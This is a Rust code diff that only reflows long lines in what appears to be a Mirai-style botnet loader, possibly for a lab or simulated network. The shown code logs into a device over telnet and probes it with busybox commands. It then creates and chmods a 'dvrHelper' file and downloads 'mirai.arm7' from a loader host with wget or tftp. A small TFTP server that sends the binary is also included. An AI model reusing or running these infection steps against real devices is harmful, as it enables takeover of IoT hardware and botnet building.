@@ -72,7 +72,9 @@ fn load(world: &World, report: &Report) -> io::Result<()> {
     let probe = "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon";
     ask(&mut telnet, &format!("{probe}; {QUERY}"))?;
     telnet.say("cd /dev/")?;
-    telnet.say(&format!("/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; {QUERY}"))?;
+    telnet.say(&format!(
+        "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; {QUERY}"
+    ))?;
     telnet.expect(&[ANSWER])?;
     let header = ask(&mut telnet, &format!("/bin/busybox cat /bin/echo; {QUERY}"))?;
     if !header.windows(4).any(|window| window == b"\x7fELF") {
@@ -83,7 +85,10 @@ fn load(world: &World, report: &Report) -> io::Result<()> {
     let (address, port) = (world.plan.outside.loader, world.plan.ports.loader);
     let file = if !fetchers.contains("wget: applet not found") {
         let url = format!("http://{address}:{port}/bins/mirai.arm7");
-        ask(&mut telnet, &format!("/bin/busybox wget {url} -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; {QUERY}"))?;
+        ask(
+            &mut telnet,
+            &format!("/bin/busybox wget {url} -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; {QUERY}"),
+        )?;
         "dvrHelper"
     } else if !fetchers.contains("tftp: applet not found") {
         let get = format!("/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 {address}");
@@ -127,7 +132,8 @@ pub(crate) fn tftp(file: &[u8]) -> Result<()> {
         let Ok(transfer) = UdpSocket::bind(("0.0.0.0", 0)) else { continue };
         let _ = transfer.set_read_timeout(Some(Duration::from_secs(1)));
         // The last block is shorter than 512 bytes, empty where the file ends on a boundary.
-        let blocks = (0..=file.len() / 512).map(|n| file.get(n * 512..file.len().min(n * 512 + 512)).unwrap_or_default());
+        let blocks = (0..=file.len() / 512)
+            .map(|n| file.get(n * 512..file.len().min(n * 512 + 512)).unwrap_or_default());
         for (number, block) in (1_u16..).zip(blocks) {
             let packet = [&[0, 3], number.to_be_bytes().as_slice(), block].concat();
             let _ = transfer.send_to(&packet, client);
